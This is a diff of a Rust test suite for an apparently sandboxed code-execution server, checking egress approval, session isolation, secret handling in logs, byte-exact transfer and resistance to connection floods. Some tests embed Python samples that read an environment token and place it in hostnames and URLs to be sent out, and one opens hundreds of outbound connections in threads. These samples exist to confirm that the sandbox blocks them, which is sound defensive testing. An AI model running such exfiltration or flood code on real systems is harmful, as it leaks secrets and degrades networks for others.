@@ -1,31 +1,24 @@
 //! Rules that change while something lives: an approval opens a host for a session.
 
-use super::{World, elsewhere};
-use crate::client::{Server, assert_facts_of, eventually, stdout_of, succeeded};
-use serde_json::{Value, json};
+use super::World;
+use crate::client::*;
 
 /// claim: [NET-7]
 #[test]
 fn what_is_approved_is_reached_and_what_is_taken_away_is_not() {
-    if elsewhere("live::what_is_approved_is_reached_and_what_is_taken_away_is_not") {
-        return;
-    }
-    let world = World::new("live");
-    let mut server = Server::of(world.ringfence(&["serve"]));
+    let Some(world) = World::apart() else { return };
+    let mut server = world.serve([]);
     let session = server.create(json!({"language": "python"}));
     let code =
         "import urllib.request\nurllib.request.urlopen('http://good.test/', timeout=10).read().decode()";
-    let fetched = |server: &mut Server| -> Value {
-        server.facts("execute_code", json!({"code": code, "session_id": session}))
-    };
+    let fetched = |server: &mut Server| -> Value { server.eval(&session, code) };
     let before = fetched(&mut server);
     assert_eq!(before["denials"][0]["rule"], "egress.name", "{before}");
     assert!(world.heard().is_empty());
-    let approver = approve(&world);
     let wish = json!({"domain": "good.test", "reason": "the story", "session_id": session});
-    let asked = server.facts("request_egress", wish);
-    assert_eq!(asked["approved"], true, "{asked}");
-    approver.join().unwrap();
+    let asked = server.send_call("request_egress", wish);
+    world.answer(&["approve", "--scope", "session"]);
+    assert_eq!(server.result(asked)["approved"], true);
     let after = fetched(&mut server);
     assert_eq!(after["result"], "hello from good.test\n", "{after}");
     let heard = world.heard();
@@ -33,12 +26,9 @@ fn what_is_approved_is_reached_and_what_is_taken_away_is_not() {
         heard.iter().partition(|heard| heard.starts_with("dns "));
     assert!(names.iter().all(|name| *name == "dns good.test"), "{heard:?}");
     assert_eq!(rest, ["tcp 93.184.216.34:80", "GET / HTTP/1.1 of good.test"]);
-    let other = server.facts("execute_code", json!({"code": code}));
-    assert_facts_of(
-        "what is the session's is nobody else's",
-        &other,
-        json!({"success": false}),
-    );
+    let other = server.run(json!({"code": code}));
+    let expect = json!({"success": false});
+    assert_facts_of("what is the session's is nobody else's", &other, expect);
     assert!(world.heard().is_empty());
     println!("\n| session | approved | {} | | |", after["result"]);
 }
@@ -46,24 +36,20 @@ fn what_is_approved_is_reached_and_what_is_taken_away_is_not() {
 /// claim: [SEC-2]
 #[test]
 fn a_programs_secret_is_not_told_with_whom_it_wanted_to_reach() {
-    if elsewhere("live::a_programs_secret_is_not_told_with_whom_it_wanted_to_reach") {
-        return;
-    }
+    let Some(world) = World::apart() else { return };
     const SECRET: &str = "Tok3nOfTheStory9x";
-    let world = World::new("veil");
     let serve = || {
-        let mut command = world.ringfence(&["serve"]);
-        command
-            .env("RINGFENCE_EGRESS_ALLOW", "*.good.test;good.test")
-            .env("RINGFENCE_VAULT_STORE", "env")
-            .env("RINGFENCE_SECRET_DEFAULT_TOKEN", SECRET);
-        Server::of(command)
+        world.serve([
+            ("RINGFENCE_EGRESS_ALLOW", "*.good.test;good.test"),
+            ("RINGFENCE_VAULT_STORE", "env"),
+            ("RINGFENCE_SECRET_DEFAULT_TOKEN", SECRET),
+        ])
     };
     let code = "import os, urllib.request\nsecret = os.environ['TOKEN']\nfor url in [f'http://{secret}.denied.test/', f'http://{secret}.good.test/', f'http://good.test/{secret}']:\n    try:\n        urllib.request.urlopen(url, timeout=5)\n    except OSError as error:\n        pass\ndel secret, url";
     let told = |server: &mut Server, arguments: Value| -> String {
         let done = server.call("execute_code", arguments);
         let id = done["structuredContent"]["execution_id"].clone();
-        let log = server.ask("resources/read", json!({"uri": "sandbox://logs"}));
+        let log = server.read("sandbox://logs");
         let record = server.call("audit_execution", json!({"limit": 20, "detail": true}));
         assert!(
             done.to_string().contains("egress.name") && log.to_string().contains("egress.refused"),
@@ -83,10 +69,7 @@ fn a_programs_secret_is_not_told_with_whom_it_wanted_to_reach() {
 
 #[test]
 fn what_is_carried_arrives_to_the_byte() {
-    if elsewhere("live::what_is_carried_arrives_to_the_byte") {
-        return;
-    }
-    let world = World::new("bytes");
+    let Some(world) = World::apart() else { return };
     let code = "
 import hashlib, random, ssl, urllib.request
 content = random.Random(7).randbytes(64 << 20)
@@ -117,58 +100,21 @@ print(hashlib.sha256(content).hexdigest())
 /// claim: [NET-8]
 #[test]
 fn who_floods_its_way_out_keeps_nobody_else_waiting() {
-    if elsewhere("live::who_floods_its_way_out_keeps_nobody_else_waiting") {
-        return;
-    }
-    let world = World::new("flood");
-    let mut command = world.ringfence(&["serve"]);
-    command.env("RINGFENCE_EGRESS_ALLOW", "good.test");
-    let mut server = Server::of(command);
+    let Some(world) = World::apart() else { return };
+    let mut server = world.serve([("RINGFENCE_EGRESS_ALLOW", "good.test")]);
     let one = |server: &mut Server| {
         let begun = std::time::Instant::now();
-        let done = server.facts("execute_code", json!({"code": "1 + 1", "allowed_domains": []}));
+        let done = server.run(json!({"code": "1 + 1", "allowed_domains": []}));
         assert_eq!(done["result"], 2, "{done}");
         begun.elapsed()
     };
     one(&mut server);
     let flood = "import socket, threading, time\nmade = 0\ndef run():\n    global made\n    end = time.time() + 6\n    while time.time() < end:\n        s = socket.socket()\n        s.settimeout(1)\n        try:\n            s.connect(('198.18.0.1', 3128))\n            made += 1\n        except OSError:\n            pass\n        s.close()\nthreads = [threading.Thread(target=run) for _ in range(8)]\n[t.start() for t in threads]\n[t.join() for t in threads]\nmade";
-    let flooding = server.send_call("execute_code", json!({"code": flood, "timeout_seconds": 20}));
+    let flooding = server.send_run(json!({"code": flood, "timeout_seconds": 20}));
     let slowest = (0..40).map(|_| one(&mut server)).max().unwrap();
     assert!(slowest < std::time::Duration::from_secs(1), "{slowest:?}");
     let (flooded, _) = server.await_answer(flooding);
     let made = flooded["result"]["structuredContent"]["result"].as_u64().unwrap();
     assert!(made > 500, "that was no flood: {flooded}");
     println!("\n| flood | {made} connections in 6 s | the slowest other call took {slowest:?} | | |");
-}
-
-/// The operator at another terminal: takes the first request that waits, and says yes for the session.
-fn approve(world: &World) -> std::thread::JoinHandle<()> {
-    let command = |words: &[&str]| world.ringfence(words);
-    let (mut list, mut yes) = (
-        command(&["approvals", "list", "--json"]),
-        command(&["approvals", "approve"]),
-    );
-    std::thread::spawn(move || {
-        let mut asked = None;
-        eventually(|| {
-            let listed = list.output().unwrap();
-            asked = find_id(&serde_json::from_slice(&listed.stdout).unwrap_or_default());
-            asked.is_some()
-        });
-        yes.args([&asked.unwrap(), "--scope", "session"]);
-        succeeded(yes);
-    })
-}
-
-pub(super) fn find_id(found: &Value) -> Option<String> {
-    match found {
-        Value::Object(fields) => fields
-            .get("id")
-            .or(fields.get("request_id"))
-            .and_then(Value::as_str)
-            .map(str::to_owned)
-            .or_else(|| fields.values().find_map(find_id)),
-        Value::Array(items) => items.iter().find_map(find_id),
-        _ => None,
-    }
 }
